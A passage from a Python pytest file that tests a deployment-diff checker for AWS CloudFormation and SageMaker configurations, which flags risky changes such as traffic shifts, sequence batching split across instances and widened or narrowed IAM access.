            stacks_by_name[name] = {"Resources": resources}
        return stacks_by_name

    (danger,) = dangers(Comparison("prod", stacks(600), stacks(0), PROD, PROD))
    assert danger.message.startswith("prod-a, prod-b, prod-c: traffic moves to new instances")
    assert [item.partition(":")[0] for item in danger.details] == ["prod-a", "prod-b", "prod-c"]


@pytest.mark.parametrize(
    ("batching", "counts", "is_danger"),
    [
        (("", "sequence_batching { }"), (2, 2), True),
        (("sequence_batching { }", "sequence_batching { }"), (1, 2), True),
        (("sequence_batching { }", "sequence_batching { }"), (2, 3), False),
        (("", "sequence_batching { }"), (1, 1), False),
        (("", "# sequence_batching { }"), (2, 2), False),
    ],
)
def test_sequences_over_several_instances_are_a_danger(
    tmp_path: Path, batching: tuple[str, str], counts: tuple[int, int], is_danger: bool
) -> None:
    sides = []
    for side, text, count in zip(("before", "after"), batching, counts, strict=True):
        config = tmp_path / side / "minilm" / "minilm" / "config.pbtxt"
        config.parent.mkdir(parents=True)
        config.write_text(f'name: "minilm"\n{text}\n')
        resources = copy.deepcopy(RESOURCES)
        put(*VARIANT, "InitialInstanceCount", count)(resources)
        sides.append(resources)
    comparison = compared(*sides, models=(tmp_path / "before", tmp_path / "after"))
    messages = [item.message for item in dangers(comparison) if item.rule == "split_sequences"]
    assert messages == is_danger * [
        f"minilm of prod-text batches sequences, whose requests go to up to {counts[1]} instances: "
        "each has a part of their state"
    ]


def test_access_to_a_resource_that_is_renamed_is_no_new_one() -> None:
    before, after = base(), base()
    for resources, name in ((before, "Function"), (after, "Renamed")):
        resources[name] = resources.pop("Function")
        put(*STATEMENT, "Resource", {"Fn::GetAtt": [name, "Arn"]})(resources)
    assert dangers(compared(before, after)) == []
    put("Renamed", "Timeout", 900)(after)
    assert [danger.rule for danger in dangers(compared(before, after))] == ["widened_access"]


@pytest.mark.parametrize(("weights", "is_danger"), [((0, 1), True), ((8, 2), False)])
def test_instances_that_get_three_times_the_calls_at_once_are_a_danger(
    weights: tuple[int, int], *, is_danger: bool
) -> None:
    before, after = base(), base()
    for side, (standard, large) in ((before, (9, 1)), (after, weights)):
        variants = side["Config"]["Properties"]["ProductionVariants"]
        variants[0]["InitialVariantWeight"] = standard
        variants.append({**variants[0], "VariantName": "Large", "InitialVariantWeight": large})
    text = "Large gets 10 % -> 100 % of the calls at once, with the instances that it has"
    messages = [(danger.rule, danger.message) for danger in dangers(compared(before, after))]
    expected = f"AWS::SageMaker::EndpointConfig prod-text/Config: {text}"
    assert messages == ([("shifted_traffic", expected)] if is_danger else [])


def test_access_that_becomes_narrower_is_told_with_what_is_left() -> None:
    before, after = base(), base()
    put(*STATEMENT, "Resource", "*")(before)
    (change,) = compared(before, after).access
    condition = "if s3:prefix StringLike text/*"
    assert in_words(change.lost, "may no longer") == [
        f"Role may no longer {action} on * {condition}, still {action} on Bucket"
        for action in ("s3:GetObject", "s3:ListBucket")
    ]
